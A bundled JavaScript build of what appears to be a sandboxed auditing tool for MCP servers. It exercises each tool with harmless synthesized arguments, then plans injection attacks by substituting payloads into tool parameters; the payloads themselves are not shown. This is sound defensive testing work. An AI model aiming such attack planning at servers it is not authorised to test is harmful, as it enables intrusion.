    /** why the last request failed (connection refused, TLS, HTTP status): the session only sees it closed */
    lastError = null;
    client = null;
    constructor(endpoint, limits) {
        this.endpoint = endpoint;
        this.limits = limits;
    }
    setProtocolVersion = (version) => {
        this.client?.setProtocolVersion?.(version);
    };
    async start() {
        const { endpoint, limits } = this;
        const client = await clientTransport(endpoint.flavour, endpoint.url, cappedFetch(limits.maxMessageBytes, limits.onOversized));
        client.onmessage = (message) => this.onmessage?.(message);
        client.onerror = (error) => {
            this.lastError = describeFetchError(error);
            this.onerror?.(error);
        };
        client.onclose = () => this.onclose?.();
        this.client = client;
        await client.start();
    }
    send(message) {
        if (!this.client)
            return Promise.reject(new Error('not connected'));
        return this.client.send(message).catch((error) => {
            this.lastError = describeFetchError(error);
            throw error;
        });
    }
    /** Nothing to end: there is no process. close() ends the session. */
    endInput() { }
    async close() {
        const client = this.client;
        if (!client)
            return;
        const session = openSession(client);
        if (session)
            await Promise.race([session.terminateSession().catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 2_000))]);
        await client.close().catch(() => undefined);
    }
}


/***/ }),

/***/ 86735:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  z: () => (/* binding */ SandboxedStdioTransport)
});

// EXTERNAL MODULE: ./node_modules/@modelcontextprotocol/sdk/dist/esm/shared/stdio.js
var stdio = __webpack_require__(6224);
;// CONCATENATED MODULE: ./src/probe/capped-read-buffer.ts

// The SDK's stdio ReadBuffer concatenates every chunk into one growing Buffer (quadratic copying on a long
// line) and, past its 10 MB limit, makes the transport close, which kills the server: one huge result
// would end the audit with everything after it unexercised. This buffer keeps at most `maxLineBytes` of a
// line; a longer line is skipped to its newline and answered locally, so the call it belonged to ends at
// once (with OVERSIZED_RESULT_CODE) and the session goes on.
const OVERSIZED_RESULT_CODE = -32_099;
const EDGE_BYTES = 512;
class CappedReadBuffer {
    maxLineBytes;
    onOversized;
    chunks = [];
    length = 0;
    /** set while skipping an oversized line: its first and latest bytes and its size so far */
    skipping = null;
    ready = [];
    /** per entry of `ready`: the stream's byte count at the end of its line (newline included) */
    readyEnds = [];
    /** bytes of the stream up to the end of the piece being taken */
    streamed = 0;
    /** the stream's byte count at the end of the line of the message readMessage returned last */
    lastEndsAt = 0;
    constructor(maxLineBytes, onOversized) {
        this.maxLineBytes = maxLineBytes;
        this.onOversized = onOversized;
    }
    append(chunk) {
        let rest = chunk;
        while (rest.length > 0) {
            const newline = rest.indexOf(0x0a);
            const piece = newline === -1 ? rest : rest.subarray(0, newline);
            rest = newline === -1 ? Buffer.alloc(0) : rest.subarray(newline + 1);
            this.take(piece);
            this.streamed += piece.length + (newline === -1 ? 0 : 1);
            if (newline !== -1)
                this.endLine();
        }
    }
    take(piece) {
        if (this.skipping === null && this.length + piece.length <= this.maxLineBytes) {
            if (piece.length > 0)
                this.chunks.push(piece);
            this.length += piece.length;
            return;
        }
        if (this.skipping === null) {
            const sofar = Buffer.concat(this.chunks);
            this.skipping = { head: sofar.subarray(0, EDGE_BYTES), tail: Buffer.alloc(0), bytes: this.length };
            this.chunks = [];
            this.length = 0;
            if (this.skipping.head.length < EDGE_BYTES)
                this.skipping.head = Buffer.concat([this.skipping.head, piece.subarray(0, EDGE_BYTES - this.skipping.head.length)]);
        }
        this.skipping.bytes += piece.length;
        this.skipping.tail = Buffer.concat([this.skipping.tail, piece]).subarray(-EDGE_BYTES);
    }
    endLine() {
        if (this.skipping !== null) {
            const { head, tail, bytes } = this.skipping;
            this.skipping = null;
            const id = requestIdOf(head.toString('utf8'), tail.toString('utf8'));
            this.onOversized({ bytes, id });
            if (id !== null) {
                this.readyEnds.push(this.streamed);
                this.ready.push({
                    jsonrpc: '2.0',
                    id,
                    error: { code: OVERSIZED_RESULT_CODE, message: `message of ${bytes} bytes dropped (over the ${this.maxLineBytes}-byte cap)` }
                });
            }
            return;
        }
        const line = Buffer.concat(this.chunks).toString('utf8').replace(/\r$/, '');
        this.chunks = [];
        this.length = 0;
        this.readyEnds.push(this.streamed);
        try {
            this.ready.push((0,stdio/* deserializeMessage */.b_)(line));
        }
        catch (error) {
            this.ready.push(error instanceof Error ? error : new Error(String(error)));
        }
    }
    /** The next complete message, or null; throws (as the SDK's buffer does) for a line that is not one. */
    readMessage() {
        const next = this.ready.shift();
        if (next === undefined)
            return null;
        this.lastEndsAt = this.readyEnds.shift() ?? this.lastEndsAt;
        if (next instanceof Error)
            throw next;
        return next;
    }
    clear() {
        this.chunks = [];
        this.length = 0;
        this.skipping = null;
        this.ready.length = 0;
        this.readyEnds.length = 0;
    }
}
/**
 * The top-level `"id"` of a JSON-RPC response, from its first or last bytes: serializers put it first
 * (`{"jsonrpc":"2.0","id":7,…`) or last (`…,"jsonrpc":"2.0","id":7}`). Only a key before any nested
 * value, or right before the final brace, is taken, so an "id" inside the result does not count.
 */
function requestIdOf(head, tail) {
    const leading = /^\s*\{[^{}[\]]*?"id"\s*:\s*(\d{1,15}|"[^"\\]{0,64}")/.exec(head);
    const trailing = /[,{]\s*"id"\s*:\s*(\d{1,15}|"[^"\\]{0,64}")\s*\}\s*\r?$/.exec(tail);
    const raw = leading?.[1] ?? trailing?.[1];
    if (raw === undefined)
        return null;
    return raw.startsWith('"') ? raw.slice(1, -1) : Number(raw);
}

;// CONCATENATED MODULE: ./src/probe/sandboxed-stdio-transport.ts


class SandboxedStdioTransport {
    onclose;
    onerror;
    onmessage;
    setProtocolVersion;
    onMessageEnd;
    received = 0;
    launcher;
    buffer;
    started = false;
    constructor(options) {
        this.launcher = options.launcher;
        this.buffer = new CappedReadBuffer(options.maxMessageBytes, options.onOversized);
    }
    /** the launcher's stderr (the server's, through strace and bwrap), available before start() */
    get stderr() {
        return this.launcher.stderr;
    }
    /** bytes read from the server's stdout so far */
    get stdoutBytes() {
        return this.received;
    }
    get pid() {
        return this.launcher.pid;
    }
    /** the launcher's exit code once it has exited, else null */
    get exitCode() {
        return this.launcher.exitCode;
    }
    start() {
        if (this.started)
            return Promise.reject(new Error('transport already started'));
        this.started = true;
        const { child, spawned, closed } = this.launcher;
        void closed.then(() => this.onclose?.());
        child.stdin?.on('error', (error) => this.onerror?.(error));
        child.stdout?.on('error', (error) => this.onerror?.(error));
        child.stdout?.on('data', (chunk) => {
            this.received += chunk.length;
            this.buffer.append(chunk);
            this.drain();
        });
        return spawned.catch((error) => {
            this.onerror?.(error);
            throw error;
        });
    }
    drain() {
        for (;;) {
            let message;
            try {
                message = this.buffer.readMessage();
            }
            catch (error) {
                this.onerror?.(error instanceof Error ? error : new Error(String(error)));
                continue;
            }
            if (message === null)
                return;
            this.onMessageEnd?.(message, this.buffer.lastEndsAt);
            this.onmessage?.(message);
        }
    }
    send(message) {
        const stdin = this.launcher.child.stdin;
        if (!stdin || stdin.writableEnded)
            return Promise.reject(new Error('not connected'));
        return new Promise((resolve) => {
            if (stdin.write((0,stdio/* serializeMessage */.Ex)(message)))
                resolve();
            else
                stdin.once('drain', () => resolve());
        });
    }
    /** Ends the server's stdin, as MCP's stdio shutdown asks; the process is left to exit by itself. */
    endInput() {
        this.launcher.child.stdin?.end();
    }
    /** Lets go of the process (the session stops its tree) and of what was buffered. */
    async close() {
        this.endInput();
        this.buffer.clear();
    }
}


/***/ }),

/***/ 79713:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  i2: () => (/* reexport */ ProbeAborted),
  lR: () => (/* reexport */ SETTLE_MS),
  _D: () => (/* binding */ probeServer)
});

// UNUSED EXPORTS: EXTRA_ATTEMPTS, HUGE_SURFACE_ITEMS, MAX_MESSAGE_BYTES, collectPages

// EXTERNAL MODULE: ./src/errors.ts
var errors = __webpack_require__(83916);
// EXTERNAL MODULE: ./node_modules/@modelcontextprotocol/sdk/dist/esm/types.js + 1 modules
var types = __webpack_require__(330);
;// CONCATENATED MODULE: ./src/probe/call-errors.ts

function describeError(error) {
    if (error instanceof types/* McpError */.Nh)
        return `${error.code}: ${error.message}`;
    return error instanceof Error ? error.message : String(error);
}
function outcomeOf(error) {
    return error instanceof types/* McpError */.Nh && error.code === types/* ErrorCode */.O4.RequestTimeout ? 'timeout' : 'protocol-error';
}
/** The text of an error result (`isError: true`), bounded: what the server said went wrong. */
function errorResultText(response) {
    const content = response.content;
    if (!Array.isArray(content))
        return '';
    let text = '';
    for (const part of content.slice(0, 10)) {
        if (typeof part === 'object' && part !== null && typeof part.text === 'string')
            text += `${part.text}\n`;
        if (text.length > 2_000)
            break;
    }
    return text.slice(0, 2_000);
}

// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
// EXTERNAL MODULE: ./src/model/key-hints.ts
var key_hints = __webpack_require__(50273);
;// CONCATENATED MODULE: ./src/probe/synthesize/key-hints.ts
// Key-name hints (the table: model/key-hints.ts): a property called `url`, `repoPath` or `dryRun` says
// what kind of value the tool expects, and the value invented for it is a harmless one of that kind
// (example.com, a relative path, true for a dry-run switch).


/** free text, used where nothing better is known */
const PLAIN_TEXT = 'hello world';
/**
 * The process id every synthesized pid gets: 2^22, one above the largest pid Linux can hand out
 * (PID_MAX_LIMIT - 1), so a kill or signal aimed at it reaches no process (ESRCH): never the server, its
 * parents or the sandbox init (pid 1, 2 in the server's view), and never 0 or -1 (a process group, every
 * process). A tool that ends processes is still called, and answers that no such process exists.
 */
const NO_SUCH_PID = 4_194_304;
const NUMBER_HINTS = new Set(['port', 'count', 'id', 'pid']);
function hintString(name, variant) {
    const nth = variant > 0 ? `-${variant + 1}` : '';
    switch ((0,key_hints/* hintKind */.U)(name)) {
        case 'url':
            return 'http://example.com/';
        case 'path':
            return `./notes${nth}.txt`;
        case 'filename':
            return `notes${nth}.txt`;
        case 'dir':
            return '.';
        case 'email':
            return 'alex@example.com';
        case 'host':
            return 'example.com';
        case 'ipv4':
            return '192.0.2.1';
        case 'ipv6':
            return '2001:db8::1';
        case 'port':
            return '8080';
        case 'text':
            return variant > 0 ? `${PLAIN_TEXT} ${variant + 1}` : PLAIN_TEXT;
        case 'id':
            return String(1 + variant);
        case 'uuid':
            return '00000000-0000-4000-8000-000000000000';
        case 'lang':
            return 'en';
        case 'count':
            return '1';
        case 'timezone':
            return 'UTC';
        case 'time':
            return '12:00';
        case 'date':
            return '2024-01-01';
        case 'datetime':
            return '2024-01-01T00:00:00Z';
        case 'owner':
            return 'acme';
        case 'repo':
            return 'notes-app';
        case 'branch':
            return 'main';
        case 'command':
            return 'echo hello';
        case 'safe-switch':
            return 'true';
        case 'pid':
            return String(NO_SUCH_PID);
        default:
            return undefined;
    }
}
function hintNumber(name) {
    switch ((0,key_hints/* hintKind */.U)(name)) {
        case 'port':
            return 8080;
        case 'count':
        case 'id':
            return 1;
        case 'pid':
            return NO_SUCH_PID;
        default:
            return undefined;
    }
}

;// CONCATENATED MODULE: ./src/probe/exercise-plan.ts


var Phase;
(function (Phase) {
    Phase[Phase["Setup"] = 0] = "Setup";
    Phase[Phase["Read"] = 1] = "Read";
    Phase[Phase["Create"] = 2] = "Create";
    Phase[Phase["Change"] = 3] = "Change";
    Phase[Phase["Destroy"] = 4] = "Destroy";
})(Phase || (Phase = {}));
const words = (name) => name
    .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter(Boolean);
const SETUP = /^(set|use|select|open|connect|configure|chdir|cd)$/;
const READ = /^(list|read|get|search|find|show|status|log|diff|describe|view|info|tree|stat|blame|fetch|query|head|cat|ls|count|check|validate|echo|print|lookup|inspect|explain|analyze|preview|reflog|wrapup|instructions|help|sample|annotated|structured|long|trigger|toggle|simulate|gzip|zip)$/;
const CREATE = /^(write|create|make|mkdir|add|new|init|clone|commit|save|upload|generate|insert|put|copy|stash|tag|branch|worktree|append)$/;
const CHANGE = /^(edit|update|move|rename|patch|replace|merge|checkout|rebase|cherry|pick|push|pull|switch|restore|modify|apply)$/;
const DESTROY = /^(delete|remove|rm|drop|reset|clean|purge|destroy|clear|revert|prune|unlink|erase)$/;
function phaseOf(tool) {
    const annotations = tool.annotations ?? {};
    const parts = words(tool.name);
    const verb = parts.find((word) => SETUP.test(word) || READ.test(word) || CREATE.test(word) || CHANGE.test(word) || DESTROY.test(word));
    if (verb !== undefined && SETUP.test(verb) && parts.some((word) => /^(dir|directory|cwd|root|workspace|path|working|repo|repository|project)$/.test(word)))
        return Phase.Setup;
    // The verb says what a tool is for; annotations decide only where it says nothing (write_file is
    // destructive because it may overwrite, yet it is the creator later calls depend on).
    if (verb !== undefined && DESTROY.test(verb))
        return Phase.Destroy;
    if (verb !== undefined && CREATE.test(verb))
        return Phase.Create;
    if (verb !== undefined && CHANGE.test(verb))
        return Phase.Change;
    if (annotations.destructiveHint === true && annotations.readOnlyHint !== true)
        return Phase.Destroy;
    return Phase.Read;
}
const PHASES = ['setup', 'read', 'create', 'change', 'destroy'];
/** What a tool does to what its arguments name (by its verb, else its annotations): phaseOf by name. */
const toolPhase = (tool) => PHASES[phaseOf(tool)];
/** The order tools are called in within a round: setup, read, create, change, destroy (stable). */
function orderTools(tools) {
    return tools
        .map((tool, index) => ({ tool, index, phase: phaseOf(tool) }))
        .sort((a, b) => a.phase - b.phase || a.index - b.index)
        .map((entry) => entry.tool);
}
const NEW_KEY = /^(destination|dest|target|new|to|output|out)$/;
const SOURCE_KEY = /^(source|src|from|old)$/;
function pathRole(key, tool) {
    const keyWords = words(key);
    const kind = (0,key_hints/* hintKind */.U)(key);
    const property = tool.inputSchema?.properties?.[key];
    const description = typeof property?.description === 'string' ? property.description.toLowerCase().slice(0, 500) : '';
    const namesPath = kind === 'path' || kind === 'dir' || kind === 'filename';
    if (description !== '' && !/\b(file|path|directory|folder)/.test(description) && /\b(branch|commit|tag|ref|revision|url|remote|name)\b/.test(description))
        return null;
    const describesDir = /(repositor|directory|folder|working dir)/.test(description) && !/\bfiles?\b/.test(description);
    const toolWords = words(tool.name);
    const phase = phaseOf(tool);
    const aboutDirs = toolWords.some((word) => /^(dir|dirs|directory|directories|folder|tree|ls|mkdir)$/.test(word)) || /dir/.test(tool.name.toLowerCase());
    if (keyWords.some((word) => NEW_KEY.test(word)) && (namesPath || keyWords.length === 1))
        return describesDir ? 'new-dir' : 'new-file';
    if (!namesPath)
        return null;
    if (kind === 'dir' || describesDir || (phase === Phase.Read && toolWords.some((word) => /^(search|find|grep|glob)$/.test(word)))) {
        return phase === Phase.Create && (aboutDirs || toolWords.includes('clone')) ? 'new-dir' : 'dir';
    }
    if (keyWords.some((word) => SOURCE_KEY.test(word)))
        return phase === Phase.Read ? 'file' : 'disposable';
    if (phase === Phase.Create)
        return aboutDirs ? 'new-dir' : toolWords.some((word) => /^(write|save|new|upload|create)$/.test(word)) ? 'new-file' : 'file';
    if (phase === Phase.Destroy || (phase === Phase.Change && toolWords.some((word) => /^(move|rename)$/.test(word))))
        return 'disposable';
    if (phase === Phase.Setup)
        return 'dir';
    return aboutDirs ? 'dir' : 'file';
}
/** A key whose value is a git revision by its description (a commit, a branch), unless it is an enum. */
function revisionRole(key, tool) {
    const property = tool.inputSchema?.properties?.[key];
    if (!property || Array.isArray(property.enum) || property.const !== undefined)
        return null;
    const description = typeof property.description === 'string' ? property.description.toLowerCase().slice(0, 500) : '';
    if (/\b(file|path|directory|url|message|name of the (tag|remote))\b/.test(description) && !/\b(commit|revision|ref)\b/.test(description))
        return null;
    if (/^remote$/i.test(key))
        return 'remote';
    if (/\bbranch(es)?\b/.test(description) || /^(branch|upstream|onto)$/i.test(key))
        return 'branch';
    if (/\b(commit|commits|revision|sha|hash|ref|refs|commit-ish|tree-ish|object)\b/.test(description))
        return 'commit';
    return null;
}
const SAFE_VALUE = /^[A-Za-z0-9/][A-Za-z0-9._:@/+-]{0,99}$/;
/** Values earlier results returned, by key name, screened: short plain tokens, no '..', no absolute paths outside the workspace. */
class ResultMemory {
    root;
    values = new Map();
    constructor(root) {
        this.root = root;
    }
    remember(response) {
        let budget = 500;
        const visit = (value, key, depth) => {
            if (budget-- <= 0 || depth > 4)
                return;
            if (typeof value === 'string' && key !== null) {
                if (this.screen(value) && !this.values.has(key.toLowerCase()))
                    this.values.set(key.toLowerCase(), value);
                return;
            }
            if (Array.isArray(value))
                for (const entry of value.slice(0, 20))
                    visit(entry, key, depth + 1);
            else if (typeof value === 'object' && value !== null)
                for (const [name, entry] of Object.entries(value).slice(0, 50))
                    visit(entry, name, depth + 1);
        };
        const structured = response?.structuredContent;
        if (structured !== undefined)
            visit(structured, null, 0);
        const content = response?.content;
        if (Array.isArray(content)) {
            for (const part of content.slice(0, 5)) {
                const text = part.text;
                if (typeof text !== 'string' || text.length > 200_000 || !/^\s*[[{]/.test(text))
                    continue;
                try {
                    visit(JSON.parse(text), null, 0);
                }
                catch {
                    // not JSON
                }
            }
        }
    }
    screen(value) {
        if (!SAFE_VALUE.test(value) || value.includes('..') || /^[a-z]+:\/\//i.test(value))
            return false;
        if (value.startsWith('/'))
            return this.root !== null && (0,external_node_path_.normalize)(value).startsWith(`${this.root}/`);
        return true;
    }
    recall(key) {
        const lower = key.toLowerCase();
        return this.values.get(lower) ?? (lower.endsWith('s') ? this.values.get(lower.slice(0, -1)) : undefined);
    }
}
// Keys whose value an earlier result is the best source for (an id, a hash, a name the server chose).
const RECALLED_KEY = /(^|_)(id|sha|hash|commit|ref|revision|branch|name|key|token|cursor|handle|uri|resource)$/i;
/**
 * The arguments of one attempt: the synthesized ones, with paths fitted to the workspace, fields the
 * validator asked for, and values earlier results returned.
 */
function fitArguments(tool, synthesized, 
/** the call's variant (synthesize-args.ts variantOf), which also picks its workspace paths */
variant, state, workspace, created, memory) {
    const args = { ...synthesized };
    const properties = (tool.inputSchema?.properties ?? {});
    const missing = state.lessons.some((lesson) => lesson.missing);
    const exists = state.lessons.some((lesson) => lesson.exists);
    const relative = state.lessons.some((lesson) => lesson.relative) && !state.lessons.some((lesson) => lesson.absolute);
    for (const lesson of state.lessons) {
        for (const field of lesson.mustBeTrue ?? [])
            if (properties[field]?.type === 'boolean')
                args[field] = true;
        if (lesson.empty)
            for (const [field, property] of Object.entries(properties).slice(0, 100))
                if (property?.type === 'boolean' && /empty/i.test(field))
                    args[field] = true;
        for (const [field, expected] of lesson.fields ?? []) {
            if (!Object.hasOwn(properties, field) && expected === undefined)
                continue;
            if (args[field] !== undefined && expected === undefined)
                continue;
            args[field] =
                expected === 'number' || expected === 'integer'
                    ? 1
                    : expected === 'boolean'
                        ? false
                        : expected === 'array'
                            ? []
                            : expected === 'object'
                                ? {}
                                : 'hello world';
        }
    }
    const nth = variant;
    // New names differ per tool, so one tool's destination is never another's source.
    const stem = tool.name
        .replace(/[^A-Za-z0-9]+/g, '-')
        .slice(0, 40)
        .toLowerCase();
    let chosenFile;
    const place = (rel) => (workspace === null || relative ? rel : rel === '.' ? workspace.root : external_node_path_.posix.join(workspace.root, rel));
    for (const key of Object.keys(args).slice(0, 100)) {
        const value = args[key];
        if (workspace !== null) {
            let role = pathRole(key, tool);
            if (role !== null) {
                if (missing && (role === 'new-file' || role === 'disposable'))
                    role = 'file';
                if (exists && role === 'file')
                    role = 'new-file';
                if (exists && role === 'dir')
                    role = 'new-dir';
                const pick = (index) => {
                    switch (role) {
                        case 'dir':
                            return place(workspace.dirs[index % workspace.dirs.length] ?? '.');
                        case 'new-dir':
                            return place(`${stem}-folder-${nth}-${index}`);
                        case 'new-file':
                            return place(`${stem}-${nth}-${index}.md`);
                        case 'disposable':
                            return place(created.shift() ?? `${stem}-${nth}-${index}.md`);
                        default: {
                            const file = workspace.files[(nth + index) % workspace.files.length] ?? 'README.md';
                            chosenFile ??= file;
                            return place(file);
                        }
                    }
                };
                if (typeof value === 'string')
                    args[key] = pick(0);
                else if (Array.isArray(value) && value.every((entry) => typeof entry === 'string'))
                    args[key] = [pick(0), pick(1)];
                continue;
            }
        }
        const revision = revisionRole(key, tool);
        if (revision !== null && (typeof value === 'string' || Array.isArray(value))) {
            const recalled = memory.recall(key) ?? (revision === 'commit' ? memory.recall('hash') : undefined);
            // The seeded repository has main, a `feature` branch one commit ahead, and `origin` (itself).
            const candidates = revision === 'remote'
                ? ['origin']
                : revision === 'branch'
                    ? ['main', 'feature']
                    : ['feature', recalled, 'HEAD', 'HEAD~1'].filter((entry) => entry !== undefined);
            const chosen = candidates[nth % candidates.length];
            args[key] = typeof value === 'string' ? chosen : [chosen];
            continue;
        }
        if (typeof value === 'string' && workspace !== null && (0,key_hints/* hintKind */.U)(key) === 'url' && words(tool.name).includes('clone')) {
            // A repository to clone: the workspace's own, the one repository we know is there.
            args[key] = `file://${workspace.root}`;
            continue;
        }
        if (typeof value === 'string' && RECALLED_KEY.test(key)) {
            const recalled = memory.recall(key);
            if (recalled !== undefined)
                args[key] = recalled;
        }
    }
    const firstLine = chosenFile !== undefined ? workspace?.firstLines?.[chosenFile] : undefined;
    if (firstLine !== undefined)
        replaceOldText(args, firstLine, 0);
    aimAwayFromServer(tool, args);
    return args;
}
/** What a tool that ends processes gets for a process name or pattern. */
const NO_SUCH_PROCESS_NAME = 'mcp-behave-no-such-process';
const NOT_A_PROCESS = /(signal|sig|timeout|delay|wait|ms|seconds|grace|force|count|limit|code)$/i;
const ENDS_PROCESSES = /^(kill|killall|pkill|terminate|signal|sigterm|sigkill)$/;
const ENDS_SERVER = /^(exit|shutdown|quit|halt|restart|reboot|abort)$/;
/** A tool whose name says it ends processes (kill_process, force_terminate, send_signal). */
function endsProcesses(toolName) {
    return words(toolName).some((word) => ENDS_PROCESSES.test(word));
}
/** A tool that ends processes, or one whose name says it stops the server (shutdown, exit, restart). */
function mayEndServer(toolName) {
    return endsProcesses(toolName) || words(toolName).some((word) => ENDS_SERVER.test(word));
}
/**
 * Whatever was synthesized, recalled from an earlier result or learnt from an error, a process id
 * (a key named pid, processId…, or any number of a tool that ends processes) is NO_SUCH_PID, a pid no
 * process can have: the exerciser never aims a kill at the server, its parents or the sandbox init.
 */
function aimAwayFromServer(tool, args) {
    const killer = endsProcesses(tool.name);
    const aim = (value, pidKey) => {
        if (typeof value === 'number')
            return NO_SUCH_PID;
        if (typeof value === 'string' && (pidKey || /^\s*-?\d+\s*$/.test(value)))
            return String(NO_SUCH_PID);
        // a process named by name or pattern (killall, pkill): one no process has, never a recalled `node`
        if (typeof value === 'string')
            return NO_SUCH_PROCESS_NAME;
        if (Array.isArray(value))
            return value.slice(0, 20).map((entry) => aim(entry, pidKey));
        return value;
    };
    for (const key of Object.keys(args).slice(0, 100)) {
        const pidKey = (0,key_hints/* hintKind */.U)(key) === 'pid';
        // of a tool that ends processes, every number but its signal, timeout or count says which process
        if (pidKey || (killer && !NOT_A_PROCESS.test(key)))
            args[key] = aim(args[key], pidKey);
    }
}
// An edit names text the file holds: `oldText`, `search`, `find`, at any depth up to 3.
const OLD_TEXT_KEY = /^(old|search|find|original|from|match)/i;
function replaceOldText(value, line, depth) {
    if (depth > 3 || typeof value !== 'object' || value === null)
        return;
    if (Array.isArray(value)) {
        for (const entry of value.slice(0, 20))
            replaceOldText(entry, line, depth + 1);
        return;
    }
    const record = value;
    for (const key of Object.keys(record).slice(0, 100)) {
        if (typeof record[key] === 'string' && OLD_TEXT_KEY.test(key) && depth > 0)
            record[key] = line;
        else
            replaceOldText(record[key], line, depth + 1);
    }
}
/** The workspace paths a successful call created (for later move/delete calls), relative to the root. */
function createdPaths(tool, args, workspace) {
    if (workspace === null)
        return [];
    const out = [];
    for (const [key, value] of Object.entries(args)) {
        const role = pathRole(key, tool);
        if ((role !== 'new-file' && role !== 'new-dir') || typeof value !== 'string')
            continue;
        const rel = (0,external_node_path_.isAbsolute)(value) ? external_node_path_.posix.relative(workspace.root, value) : value;
        if (!rel.startsWith('..') && role === 'new-file')
            out.push(rel);
    }
    return out;
}
/**
 * Why the session ended early. When the last call was one that ends processes or the server (kill_process,
 * force_terminate, shutdown), the server did what it was told (its pid arguments pointed at no process:
 * aimAwayFromServer), and the gap says so.
 */
function endedWhy(calls) {
    const last = calls[calls.length - 1];
    if (last?.kind === 'tool' && mayEndServer(last.name))
        return `the server exited after ${calls.length} call(s), right after a call to ${last.name}, a tool that ends processes; the calls after it were not made`;
    return `the server exited on its own after ${calls.length} call(s), before the audit was done`;
}

// EXTERNAL MODULE: ./src/probe/attack/attack-options.ts
var attack_options = __webpack_require__(34336);
// EXTERNAL MODULE: ./src/probe/attack/payloads.ts
var payloads = __webpack_require__(27472);
// EXTERNAL MODULE: ./src/probe/attack/roles.ts
var attack_roles = __webpack_require__(11794);
;// CONCATENATED MODULE: ./src/probe/attack/plan.ts



// Which attack calls the stage makes, within its budget: per parameter the values its roles call for,
// strongest first; per tool its parameters in turn; per audit the tools in turn, so every tool gets its
// strongest attacks before any gets its weakest. Each value replaces one parameter of the arguments of the
// tool's last successful call in the exercise (else its last call), so it reaches the code past the
// checks that the ordinary arguments already pass.
/**
 * A tool whose ordinary calls took this long each gets few attacks, those on parameters named for a role
 * first. A free string still gets what room is left: how long a call takes depends on the machine's load,
 * and a shell pasted together from it is slow because it starts a shell.
 */
const SLOW_CALL_MS = 1_000;
const SLOW_TOOL_ATTACKS = 4;
/** A tool that speaks of a cluster: its strings may reach kubectl or helm. */
const CLUSTER = /\b(kubectl|kubernetes|k8s|helm|cluster|pods?)\b/i;
/** The arguments of the tool's last successful call, else its last call; null: never called. */
function baseArguments(calls, tool) {
    const own = calls.filter((call) => call.kind === 'tool' && call.name === tool && !call.attack);
    const base = own.filter((call) => call.outcome === 'ok').at(-1) ?? own.at(-1);
    return base ? (base.arguments ?? {}) : null;
}
const averageMs = (calls, tool) => {
    const own = calls.filter((call) => call.kind === 'tool' && call.name === tool);
    return own.length === 0 ? 0 : own.reduce((sum, call) => sum + (call.endedAt - call.startedAt), 0) / own.length;
};
/** `args` with the one parameter replaced by `value` (the only item of its array, or one key down). */
function withValue(args, at, value) {
    const copy = structuredClone(args);
    const [first, second] = at.keys;
    const item = at.array ? [value] : value;
    if (second === undefined)
        copy[first] = item;
    else {
        const inner = copy[first];
        copy[first] = { ...(typeof inner === 'object' && inner !== null && !Array.isArray(inner) ? inner : {}), [second]: item };
    }
    return copy;
}
const valueAt = (args, at) => {
    const [first, second] = at.keys;
    const value = second === undefined ? args[first] : args[first]?.[second];
    return Array.isArray(value) ? value[0] : value;
};
/** Takes one from each list in turn until `limit` are taken. */
function interleave(lists, limit) {
    const out = [];
    for (let round = 0; out.length < limit && lists.some((list) => round < list.length); round++) {
        for (const list of lists)
            if (round < list.length && out.length < limit)
                out.push(list[round]);
    }
    return out;
}
/** A slow tool's few attacks: the parameters named for a role first, then the free strings. */
function slowPicks(lists, limit) {
    const named = interleave(lists.filter((list) => list[0]?.role.strength === 'strong'), limit);
    return [
        ...named,
        ...interleave(lists.filter((list) => list[0]?.role.strength !== 'strong'), limit - named.length)
    ];
}
function planAttacks(input) {
    const { budget, context } = input;
    const skipped = new Map();
    const perTool = [];
    // Tools that set the session up (a working directory) come last: an attack that got through there would
    // move every later attack elsewhere.
    const ordered = orderTools(input.tools);
    for (const tool of [...ordered.filter((entry) => toolPhase(entry) !== 'setup'), ...ordered.filter((entry) => toolPhase(entry) === 'setup')]) {
        const base = baseArguments(input.calls, tool.name);
        if (base === null) {
            skipped.set(tool.name, 'never called in the exercise');
            continue;
        }
        const slow = averageMs(input.calls, tool.name) >= SLOW_CALL_MS;
        const roles = (0,attack_roles/* parameterRoles */.j)(tool, input.sinks?.get(tool.name));
        if (roles.length === 0) {
            skipped.set(tool.name, 'no string parameter to attack');
            continue;
        }
        const cluster = CLUSTER.test(`${tool.name} ${tool.description ?? ''}`);
        const writes = tool.annotations?.readOnlyHint !== true && ['create', 'change', 'destroy'].includes(toolPhase(tool));
        const lists = roles.map((role) => {
            const absolute = String(valueAt(base, role.at) ?? '').startsWith('/');
            const entries = (0,payloads/* candidatesFor */._j)(role.roles, role.strength, context, { absolute, writes, cluster });
            // Each value judged against the schema with a stand-in marker of the same length.
            const fitting = entries.filter((entry) => (0,payloads/* fits */.lA)(entry.make(`${input.markerPrefix}00`).value, role.constraints));
            return fitting.slice(0, budget.perParameter).map((entry) => ({ role, entry }));
        });
        const picks = slow ? slowPicks(lists, Math.min(SLOW_TOOL_ATTACKS, budget.perTool)) : interleave(lists, budget.perTool);
        if (picks.length === 0)
            skipped.set(tool.name, 'no value its schema accepts');
        else
            perTool.push({ tool, base, picks });
    }
    // Across tools in turn, within the audit's budget; then made tool by tool, in agent order.
    const chosen = new Set(interleave(perTool.map(({ picks }) => picks), budget.perAudit));
    const attacks = [];
    for (const { tool, base, picks } of perTool) {
        const kept = picks.filter((pick) => chosen.has(pick));
        if (kept.length < picks.length)
            skipped.set(tool.name, `${picks.length - kept.length} attack(s) left out: the audit's budget of ${budget.perAudit}`);
        for (const { role, entry } of kept) {
            const marker = `${input.markerPrefix}${attacks.length.toString(36).padStart(2, '0')}`;
            const attack = (0,payloads/* attackOf */.AP)(entry, role.parameter, marker);
            attacks.push({ tool, args: withValue(base, role.at, attack.value), attack });
        }
    }
    return { attacks, skipped };
}

// EXTERNAL MODULE: ./node_modules/@modelcontextprotocol/sdk/dist/esm/client/index.js + 31 modules
var esm_client = __webpack_require__(30063);
;// CONCATENATED MODULE: ./src/probe/client-traps.ts

const MAX_TEXT = 4_000;
const MAX_RECORDS = 200;
/** What a sampling request asks for that a completion would quote the conversation's key for. */
